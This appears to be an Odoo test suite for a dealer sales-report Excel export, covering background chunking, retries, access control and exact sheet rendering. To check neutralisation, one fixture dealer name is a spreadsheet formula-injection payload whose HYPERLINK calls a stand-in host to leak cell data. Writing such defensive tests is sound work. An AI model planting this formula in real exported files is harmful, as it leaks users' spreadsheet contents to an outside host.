import io
import json
import os
import tempfile
import zipfile
from datetime import date, datetime, timedelta
from unittest.mock import patch

import openpyxl

from odoo import Command, fields
from odoo.exceptions import AccessError, UserError, ValidationError
from odoo.tests import BaseCase, HttpCase, tagged
from odoo.tools import SQL

from odoo.addons.dealer_base.tools import new_workbook, safe_text
from odoo.addons.dealer_report.models.dealer_report_export_request import (
    SALES_COLUMNS,
    SALES_ROW_FIELDS,
    SALES_ROW_NUMBERS,
    SALES_SHEET_MEMBER,
    SALES_STYLES,
    DealerReportExportRequest,
)
from odoo.addons.dealer_report.tests.common import DealerReportCommon
from odoo.addons.dealer_report.tools.sheet_xml import date_serial, renumber_rows, rows_xml, text_xml


class ExportRequestCommon(DealerReportCommon):
    """This month: dealer A 3 × 100 (item A), dealer B 2 × 50 (item B), a dealer named like
    a formula 1 × 100 (item A); three rows in the analysis. Two dealer users of the
    company, a manager, and a manager of a second company only."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        now = fields.Datetime.now()
        cls.month = fields.Date.context_today(cls.Analysis).replace(day=1)
        cls.formula_dealer = cls._create_dealer('=HYPERLINK("http://x.example/?"&A1,"x")', cls.level_l1,
                                                cls.state_e2, parent=cls.branch)
        cls._authorize(cls.formula_dealer, cls.region_e2)
        cls.formula_dealer._dealer_grant_products(cls.items)
        cls._confirmed(cls.dealer, now, [(cls.item_a, 3, 100.0)])
        cls._confirmed(cls.dealer2, now, [(cls.item_b, 2, 50.0)])
        cls._confirmed(cls.formula_dealer, now, [(cls.item_a, 1, 100.0)])
        cls.Analysis.refresh(full=True)
        cls.company2 = cls.setup_other_company(name="导出二公司")["company"]
        Users = cls.env["res.users"].with_context(no_reset_password=True)
        user_group = cls.env.ref("dealer_base.group_dealer_user")
        manager_group = cls.env.ref("dealer_base.group_dealer_manager")

        def user(login, group, companies):
            return Users.create({
                "name": login, "login": login, "groups_id": [Command.set(group.ids)],
                "company_id": companies[0].id, "company_ids": [Command.set(companies.ids)],
            })

        cls.user1 = user("exp_user1", user_group, cls.company)
        cls.user2 = user("exp_user2", user_group, cls.company)
        cls.manager = user("exp_manager", manager_group, cls.company)
        cls.manager2 = user("exp_manager2", manager_group, cls.company2)
        cls.Request = cls.env["dealer.report.export.request"]
        # the scheduled action takes the oldest waiting export first: none but the tests' own
        cls.Request.sudo().search([]).unlink()
        cls.env["ir.config_parameter"].set_param("dealer_report.export_chunk_rows", "1")

    def _sales_request(self, user=None, **vals):
        return self.Request.with_user(user or self.user1)._dealer_export_create({
            "kind": "sales_rows", "name": "Channel sales", "date_from": self.month, "date_to": self.month,
            "domain": [("date", ">=", self.month.isoformat()), ("date", "<=", self.month.isoformat())], **vals,
        })

    def _run_cron(self, steps=50):
        """Run the scheduled action's steps until nothing waits for it."""
        Request = self.Request.with_user(self.env.ref("base.user_root"))
        for _step in range(steps):
            if not Request._cron_process():
                return
        self.fail("the background exports do not finish")

    @staticmethod
    def _book(request):
        return openpyxl.load_workbook(io.BytesIO(request.sudo().attachment_id.raw))


@tagged("post_install", "-at_install")
class TestExportRequest(ExportRequestCommon):

    def test_sales_rows_run_to_done_through_the_cron(self):
        trigger_count = self.env["ir.cron.trigger"].search_count([])
        request = self._sales_request()
        self.assertEqual(request.state, "queued")
        self.assertFalse(request.use_jobs)
        self.assertEqual(request.row_total, 3)
        # one dealer per chunk (1 row per chunk in this test), then the assembly
        self.assertEqual(request.chunk_total, 4)
        self.assertEqual(request.user_id, self.user1)
        cron = self.env.ref("dealer_report.ir_cron_dealer_report_export_process")
        self.assertEqual(self.env["ir.cron.trigger"].search_count([]), trigger_count + 1)
        self.assertEqual(self.env["ir.cron.trigger"].search([], order="id desc", limit=1).cron_id, cron)

        Request = self.Request.with_user(self.env.ref("base.user_root"))
        Request._cron_process()
        request.invalidate_recordset()
        self.assertEqual((request.state, request.chunk_done), ("running", 1))
        self.assertAlmostEqual(request.progress, 25.0)
        self.assertEqual(Request._dealer_export_remaining(), 3)
        self._run_cron()
        request.invalidate_recordset()
        self.assertEqual((request.state, request.chunk_done, request.progress), ("done", 4, 100.0))
        self.assertFalse(request.sudo().part_ids)
        self.assertTrue(request.date_finished)

        sheet = self._book(request).active
        header = [cell.value for cell in sheet[1]]
        self.assertEqual(header[:3], ["Month", "Dealer", "Dealer Code"])
        rows = {row[1]: row for row in sheet.iter_rows(min_row=2, values_only=True)}
        self.assertEqual(len(rows), 3)
        sales = header.index("Sales")
        qty = header.index("Quantity")
        dealer_row = rows[self.dealer.display_name]
        self.assertEqual(dealer_row[0], datetime.combine(self.month, datetime.min.time()))
        self.assertEqual(dealer_row[2], self.dealer.dealer_code)
        self.assertEqual((dealer_row[qty], dealer_row[sales]), (3.0, 300.0))
        self.assertEqual(rows[self.dealer2.display_name][sales], 100.0)
        # the formula-like name is text, neutralized; numbers are numbers
        formula_name = "'" + self.formula_dealer.display_name
        self.assertIn(formula_name, rows)
        cells = {row[1].value: row for row in sheet.iter_rows(min_row=2)}
        self.assertEqual(cells[formula_name][1].data_type, "s")
        self.assertEqual(cells[formula_name][sales].data_type, "n")
        # the user is told: a message in his inbox, on the request
        message = request.message_ids.filtered(lambda m: "is ready" in (m.body or ""))
        self.assertIn(self.user1.partner_id, message.partner_ids)
        self.assertEqual(message.attachment_ids, request.sudo().attachment_id)
        self.assertEqual(request.with_user(self.user1).action_download()["url"],
                         "/web/content/%s?download=true" % request.sudo().attachment_id.id)

    def test_channel_report_in_background(self):
        request = self.Request.with_user(self.user1)._dealer_export_create({
            "kind": "channel_report", "name": "Channel report", "date_from": self.month, "top": 20,
        })
        self.assertEqual(request.chunk_total, 8)
        self._run_cron()
        self.assertEqual(request.state, "done")
        book = self._book(request)
        self.assertEqual(book.sheetnames, ["Sales by Region", "Top Dealers", "Top Products", "Promotion Cost",
                                           "Credit Exposure", "Review KPIs", "Rebates"])
        regions = {row[0]: row[1] for row in book["Sales by Region"].iter_rows(min_row=4, values_only=True)}
        self.assertEqual(regions, {self.region_e1.display_name: 300.0, self.region_e2.display_name: 200.0})
        dealers = {row[0].value: row for row in book["Top Dealers"].iter_rows(min_row=4)}
        self.assertEqual(dealers["'" + self.formula_dealer.display_name][0].data_type, "s")
        self.assertEqual(dealers["'" + self.formula_dealer.display_name][2].value, 100.0)

    def test_failed_chunk_fails_the_request_with_nothing_half_written(self):
        request = self._sales_request()
        original = DealerReportExportRequest._dealer_export_sales_rows
        calls = []

        def failing(self, partner_ids):
            calls.append(partner_ids)
            if len(calls) == 2:
                raise UserError(self.env._("the database is tired"))
            return original(self, partner_ids)

        with patch.object(DealerReportExportRequest, "_dealer_export_sales_rows", failing):
            self._run_cron()
        request.invalidate_recordset()
        self.assertEqual(len(calls), 2)
        self.assertEqual(request.state, "failed")
        self.assertEqual(request.error_message, "the database is tired")
        self.assertFalse(request.sudo().part_ids)
        self.assertFalse(request.attachment_id)
        self.assertFalse(self.env["ir.attachment"].search([("res_model", "=", request._name),
                                                           ("res_id", "=", request.id)]))
        self.assertTrue(request.message_ids.filtered(lambda m: "the database is tired" in (m.body or "")))
        with self.assertRaises(UserError):
            request.with_user(self.user1).action_download()
        # run again once the cause is gone: done
        request.with_user(self.user1).action_retry()
        self.assertEqual(request.state, "queued")
        self._run_cron()
        self.assertEqual(request.state, "done")

    def test_limits(self):
        count = self.Request.search_count([])
        self.env["ir.config_parameter"].set_param("dealer_report.export_max_rows", "2")
        with self.assertRaisesRegex(UserError, "3 rows match, more than the 2 rows"):
            self._sales_request()
        with self.assertRaisesRegex(UserError, "nothing to export"):
            self._sales_request(domain=[("date", "<", "2000-01-01")])
        self.assertEqual(self.Request.search_count([]), count)
        # a parameter out of bounds is brought back within them
        self.env["ir.config_parameter"].set_param("dealer_report.export_max_rows", "99999999")
        self.assertEqual(self._sales_request().row_total, 3)

    def test_chunk_queries_do_not_grow_with_the_rows(self):
        request = self._sales_request()
        request = request.sudo()
        one, three = [self.dealer.id], [self.dealer.id, self.dealer2.id, self.formula_dealer.id]
        request._dealer_export_sales_rows(one)
        counts = []
        for chunk in (one, three):
            self.env.invalidate_all()
            start = self.env.cr.sql_log_count
            self.assertEqual(len(request._dealer_export_sales_rows(chunk)), len(chunk))
            counts.append(self.env.cr.sql_log_count - start)
        self.assertEqual(counts[0], counts[1])
        self.env.invalidate_all()
        with self.assertQueryCount(16):
            request._dealer_export_sales_rows(three)

    def test_jobs_when_the_job_queue_takes_the_chunks(self):
        queued = []

        def queue(self, method, chunks, finish=None, description=None):
            queued.append((method, chunks, finish))
            return True

        with patch.object(DealerReportExportRequest, "_dealer_queue_chunks", queue, create=True):
            request = self._sales_request()
        self.assertEqual((request.state, request.use_jobs), ("running", True))
        self.assertEqual(queued, [("_dealer_export_chunk", request.chunk_plan, "_dealer_export_finish")])
        # the scheduled action leaves it to the jobs
        self.assertFalse(self.Request.sudo()._dealer_export_next())
        # the jobs run as the requesting user, in any order, a chunk possibly twice
        as_user = request.with_user(self.user1)
        for chunk in reversed(request.chunk_plan + request.chunk_plan[:1]):
            as_user._dealer_export_chunk(chunk)
        as_user._dealer_export_finish()
        self.assertEqual(request.state, "done")
        self.assertEqual(self._book(request).active.max_row, 4)

    def test_old_exports_are_removed(self):
        request = self._sales_request()
        self._run_cron()
        attachment = request.sudo().attachment_id
        request.sudo().date_finished = fields.Datetime.now() - timedelta(days=6)
        self.assertEqual(self.Request._dealer_export_gc(), 0)
        self.env["ir.config_parameter"].set_param("dealer_report.export_keep_days", "5")
        self.assertEqual(self.Request._dealer_export_gc(), 1)
        self.assertFalse(request.exists())
        self.assertFalse(attachment.exists())

    def test_wizard_downloads_small_exports_now_and_large_ones_later(self):
        Wizard = self.env["dealer.report.export"].with_user(self.user1)
        wizard = Wizard.create({"kind": "sales_rows", "month": self.month, "month_to": self.month,
                                "partner_ids": [Command.set(self.dealer.ids)]})
        action = wizard.action_export()
        self.assertEqual(action["type"], "ir.actions.act_url")
        request = self.Request.with_user(self.user1).search([], limit=1)
        self.assertEqual((request.state, request.row_total), ("done", 1))
        self.assertEqual(self._book(request).active.cell(2, 2).value, self.dealer.display_name)

        self.env["ir.config_parameter"].set_param("dealer_report.export_sync_rows", "2")
        wizard = Wizard.create({"kind": "sales_rows", "month": self.month, "month_to": self.month})
        action = wizard.action_export()
        self.assertEqual(action["tag"], "display_notification")
        request = self.Request.with_user(self.user1).search([], limit=1)
        self.assertEqual((request.state, request.row_total), ("queued", 3))
        # the region filter takes the subregions
        for region, count in ((self.region_e2, 2), (self.region_e2.parent_id, 3)):
            wizard = Wizard.create({"kind": "sales_rows", "month": self.month, "month_to": self.month,
                                    "region_ids": [Command.set(region.ids)]})
            self.assertEqual(self.Analysis.search_count(wizard._sales_rows_domain()), count)
        with self.assertRaisesRegex(ValidationError, "cannot be before"):
            Wizard.create({"kind": "sales_rows", "month": self.month,
                           "month_to": self.month - timedelta(days=40)})

    def test_access(self):
        request = self._sales_request()
        self._run_cron()
        attachment = request.sudo().attachment_id
        Request = self.Request
        # the other user sees neither the request nor its file
        self.assertFalse(Request.with_user(self.user2).search([("id", "=", request.id)]))
        with self.assertRaises(AccessError):
            request.with_user(self.user2).read(["name"])
        with self.assertRaises(AccessError):
            attachment.with_user(self.user2).read(["raw"])
        with self.assertRaises(AccessError):
            request.with_user(self.user2).action_download()
        # nor can he write or create one for somebody else
        with self.assertRaises(AccessError):
            request.with_user(self.user2).write({"user_id": self.user2.id})
        with self.assertRaises(AccessError):
            Request.with_user(self.user2).create({"name": "x", "kind": "sales_rows"})
        self.assertTrue(attachment.with_user(self.user1).read(["raw"]))
        # the manager of the company sees it; the manager of another company does not
        self.assertEqual(Request.with_user(self.manager).search([("id", "=", request.id)]), request)
        self.assertFalse(Request.with_user(self.manager2).search([("id", "=", request.id)]))
        with self.assertRaises(AccessError):
            attachment.with_user(self.manager2).read(["raw"])
        # the rows are read in the request's company: none in the second company
        with self.assertRaisesRegex(UserError, "nothing to export"):
            self._sales_request(user=self.manager2)

    def test_user_losing_access_fails_the_export(self):
        request = self._sales_request()
        self.user1.groups_id = [Command.set(self.env.ref("base.group_user").ids)]
        self._run_cron()
        self.assertEqual(request.state, "failed")
        self.assertFalse(request.sudo().attachment_id)


@tagged("post_install", "-at_install")
class TestExportDownload(HttpCase, ExportRequestCommon):

    def test_another_user_cannot_download(self):
        self.user1.password = self.user2.password = "exp_pw_1"
        request = self._sales_request()
        self._run_cron()
        url = "/web/content/%s?download=true" % request.sudo().attachment_id.id
        self.authenticate("exp_user1", "exp_pw_1")
        response = self.url_open(url)
        self.assertEqual(response.status_code, 200)
        self.assertTrue(response.content.startswith(b"PK"))
        self.authenticate("exp_user2", "exp_pw_1")
        response = self.url_open(url)
        self.assertIn(response.status_code, (403, 404))
        self.assertFalse(response.content.startswith(b"PK"))


@tagged("post_install", "-at_install")
class TestExportSheet(ExportRequestCommon):
    """The flat export's sheet, rendered by the chunks and assembled by the last step. On
    top of the common rows: dealer A also bought item B this month and the second dealer
    item A last month (five rows over two months); the second dealer's name holds XML
    markup and a control character; two rows per chunk at most."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        now = fields.Datetime.now()
        cls.last_month = cls.month - timedelta(days=1)
        cls._confirmed(cls.dealer, now, [(cls.item_b, 2, 30.0)])
        cls._confirmed(cls.dealer2, datetime.combine(cls.last_month, datetime.min.time()) + timedelta(hours=6),
                       [(cls.item_a, 1, 100.0)])
        cls.Analysis.refresh(full=True)
        cls.dealer2.name = "<b>乙 & \x01"
        cls.env["ir.config_parameter"].set_param("dealer_report.export_chunk_rows", "2")
        cls.period = [("date", ">=", cls.last_month.replace(day=1).isoformat()),
                      ("date", "<=", cls.month.isoformat())]

    def _request(self):
        return self._sales_request(date_from=self.last_month.replace(day=1), domain=self.period)

    def _expected(self, request):
        """The rows the sheet must hold, in order: each chunk's rows as the analysis gives them."""
        request = request.sudo()
        return [row for chunk in request.chunk_plan for row in request._dealer_export_sales_rows(chunk)]

    @staticmethod
    def _member(request, name):
        with zipfile.ZipFile(io.BytesIO(request.sudo().attachment_id.raw)) as book:
            return book.read(name)

    def _xlsxwriter_book(self, request, rows):
        """The workbook as xlsxwriter's constant memory mode writes ``rows`` (the export
        before its chunks rendered the rows), as bytes."""
        headers = request.sudo()._dealer_export_sales_headers(request.sudo()._dealer_export_user_env())
        with tempfile.TemporaryDirectory() as directory:
            path = os.path.join(directory, "reference.xlsx")
            workbook = new_workbook(path, in_memory=False, constant_memory=True, tmpdir=directory)
            bold = workbook.add_format({"bold": True, "bg_color": "#EFF6FF", "border": 1})
            formats = {"month": workbook.add_format({"num_format": "yyyy-mm"}),
                       "money": workbook.add_format({"num_format": "#,##0.00"}),
                       "qty": workbook.add_format({"num_format": "#,##0.##"})}
            columns = []
            for fname in SALES_ROW_FIELDS:
                columns.append(formats.get(SALES_ROW_NUMBERS.get(fname)))
                if fname == "partner_id":
                    columns.append(None)
            sheet = workbook.add_worksheet("Channel Sales")
            for col, header in enumerate(headers):
                sheet.set_column(col, col, 12 if col == 0 else 18)
                sheet.write_string(0, col, header, bold)
            sheet.freeze_panes(1, 2)
            for index, row in enumerate(rows, 1):
                sheet.write_datetime(index, 0, date.fromisoformat(row[0]), formats["month"])
                for col in range(1, len(row)):
                    if isinstance(row[col], str):
                        if row[col]:
                            sheet.write_string(index, col, safe_text(row[col]))
                    else:
                        sheet.write_number(index, col, row[col], columns[col])
            workbook.close()
            with open(path, "rb") as handle:
                return handle.read()

    @staticmethod
    def _as_read(text):
        """A text as a reader reads it from the sheet: neutralized, with Excel's escape of a
        control character (that Excel reads back, openpyxl not)."""
        return safe_text(text).replace("\x01", "_x0001_")

    def _assert_sheet(self, request, expected):
        """The sheet holds the header, then exactly ``expected``: every value, type and number format."""
        self.assertEqual(request.state, "done", request.error_message)
        book = self._book(request)
        self.assertEqual(book.sheetnames, ["Channel Sales"])
        sheet = book.active
        self.assertEqual(sheet.freeze_panes, "C2")
        self.assertEqual(sheet.max_row, 1 + len(expected))
        self.assertEqual(sheet.max_column, len(SALES_COLUMNS))
        header = list(sheet[1])
        self.assertEqual([cell.value for cell in header[:4]], ["Month", "Dealer", "Dealer Code", "Region"])
        for cell in header:
            self.assertTrue(cell.font.b)
            self.assertEqual(cell.fill.fgColor.rgb, "FFEFF6FF")
            self.assertEqual(cell.border.left.style, "thin")
        self.assertEqual(round(sheet.column_dimensions["A"].width), 13)  # 12 and Excel's padding
        self.assertEqual(round(sheet.column_dimensions["Q"].width), 19)
        formats = {"date": "yyyy-mm", "text": "General"}
        for number, (cells, row) in enumerate(zip(sheet.iter_rows(min_row=2), expected, strict=True), 2):
            for col, (cell, (kind, style), value) in enumerate(zip(cells, SALES_COLUMNS, row, strict=True)):
                where = "row %s col %s" % (number, col)
                self.assertNotEqual(cell.data_type, "f", where)
                if kind == "date":
                    self.assertEqual(cell.value, datetime.fromisoformat(value), where)
                elif kind == "text":
                    self.assertEqual(cell.value, self._as_read(value) or None, where)
                    self.assertEqual(cell.data_type, "s" if value else "n", where)
                else:
                    self.assertEqual(cell.value, value, where)
                    self.assertEqual(cell.data_type, "n", where)
                number_format = formats.get(kind) or ("#,##0.##" if style == SALES_STYLES["qty"] else "#,##0.00")
                self.assertEqual(cell.number_format, number_format, where)
        return sheet

    def test_sheet_holds_every_row_in_order(self):
        request = self._request()
        self.assertEqual(request.row_total, 5)
        self.assertEqual(sum(request.chunk_rows), 5)
        self.assertGreaterEqual(len(request.chunk_plan), 2)
        self.assertIn(2, request.chunk_rows)
        self._run_cron()
        expected = self._expected(request)
        self.assertEqual(len(expected), self.Analysis.search_count(request.sudo()._dealer_export_domain()))
        sheet = self._assert_sheet(request, expected)
        # the dealers in the plan's order, each one's rows by month then product
        dealers = [name for name, _code in sheet.iter_rows(min_row=2, min_col=2, max_col=3, values_only=True)]
        names = self.env["res.partner"].browse([pid for chunk in request.chunk_plan for pid in chunk])
        self.assertEqual(list(dict.fromkeys(dealers)), [self._as_read(name) for name in names.mapped("display_name")])
        second = [row for row in sheet.iter_rows(min_row=2, values_only=True) if row[2] == self.dealer2.dealer_code]
        self.assertEqual([row[0].date() for row in second], [self.last_month.replace(day=1), self.month])
        # the formula-like name is text
        formula_name = "'" + self.formula_dealer.display_name
        self.assertIn(formula_name, dealers)

    def test_sheet_is_the_one_xlsxwriter_writes(self):
        request = self._request()
        self._run_cron()
        reference = self._xlsxwriter_book(request, self._expected(request))
        with zipfile.ZipFile(io.BytesIO(reference)) as book:
            members = {name: book.read(name) for name in book.namelist()}
        with zipfile.ZipFile(io.BytesIO(request.sudo().attachment_id.raw)) as book:
            self.assertEqual(book.namelist(), list(members))
            for name in members:
                if name != "docProps/core.xml":  # its creation time
                    self.assertEqual(book.read(name), members[name], name)
        sheet = members[SALES_SHEET_MEMBER].decode()
        self.assertIn(' t="inlineStr"><is><t>\'=HYPERLINK("http://x.example/?"&amp;A1,"x")</t>', sheet)
        self.assertIn("<t>&lt;b&gt;乙 &amp; _x0001_</t>", sheet)

    def test_chunks_in_any_order_retried_or_misplanned(self):
        expected = self._expected(self._request())
        self.Request.sudo().search([]).unlink()
        request = self._request().sudo()
        # the rows of the chunks are not the planned ones (an analysis refresh in between):
        # the last step moves them, no row is lost, doubled or left with a gap
        request.chunk_rows = [7, 0] + request.chunk_rows[2:]
        for chunk in reversed(request.chunk_plan + request.chunk_plan[:1]):
            request._dealer_export_chunk(chunk)
        self.assertEqual(len(request.part_ids), len(request.chunk_plan))
        self.assertEqual(request.part_ids.sorted("sequence")[1].row_start, 9)
        request._dealer_export_finish()
        self._assert_sheet(request, expected)

    def test_chunk_left_without_rows(self):
        request = self._request()
        expected = [row for row in self._expected(request) if row[2] != self.dealer2.dealer_code]
        self.env.cr.execute(SQL("DELETE FROM dealer_sales_analysis WHERE partner_id = %s", self.dealer2.id))
        self._run_cron()
        self._assert_sheet(request, expected)

    def test_parts_written_as_json_by_an_older_version(self):
        request = self._request().sudo()
        expected = self._expected(request)
        request._dealer_export_chunk(request.chunk_plan[0])
        for sequence, chunk in enumerate(request.chunk_plan[1:], 1):
            self.env["dealer.report.export.part"].sudo().create({
                "request_id": request.id, "sequence": sequence,
                "data": json.dumps(request._dealer_export_sales_rows(chunk), ensure_ascii=False),
            })
        request._dealer_export_finish()
        self._assert_sheet(request, expected)


@tagged("post_install", "-at_install")
class TestSheetXml(BaseCase):
    """The rows rendered as SpreadsheetML (``dealer_report.tools.sheet_xml``)."""

    def test_text(self):
        self.assertEqual(text_xml("Dealer 1"), "<t>Dealer 1</t>")
        self.assertEqual(text_xml("a<b>&c\"d"), '<t>a&lt;b&gt;&amp;c"d</t>')
        self.assertEqual(text_xml(" lead"), '<t xml:space="preserve"> lead</t>')
        self.assertEqual(text_xml("line\n"), '<t xml:space="preserve">line\n</t>')
        # characters XML does not allow as Excel escapes them, and a literal escape kept literal
        self.assertEqual(text_xml("a\x01b\rc"), "<t>a_x0001_b_x000D_c</t>")
        self.assertEqual(text_xml("_x0041_"), "<t>_x005F_x0041_</t>")
        self.assertEqual(text_xml("\ufffe"), "<t>_xFFFE_</t>")

    def test_rows(self):
        columns = [("date", 2), ("text", None), ("number", 4)]
        xml = rows_xml([["2026-12-01", "=1+1", 2.5], [date(2026, 11, 1), "", 0]], 7, columns)
        self.assertEqual(date_serial(date(2026, 12, 1)), 46357.0)
        self.assertEqual(date_serial("1900-01-01"), 1.0)
        self.assertEqual(
            xml,
            '<row r="7"><c r="A7" s="2"><v>46357</v></c><c r="B7" t="inlineStr"><is><t>\'=1+1</t></is></c>'
            '<c r="C7" s="4"><v>2.5</v></c></row>'
            '<row r="8"><c r="A8" s="2"><v>46327</v></c><c r="C8" s="4"><v>0</v></c></row>',
        )
        self.assertEqual(renumber_rows(xml, 3), rows_xml([["2026-12-01", "=1+1", 2.5], [date(2026, 11, 1), "", 0]],
                                                         10, columns))
        self.assertEqual(renumber_rows(xml, -5), rows_xml([["2026-12-01", "=1+1", 2.5], [date(2026, 11, 1), "", 0]],
                                                          2, columns))
        self.assertEqual(rows_xml([], 2, columns), "")
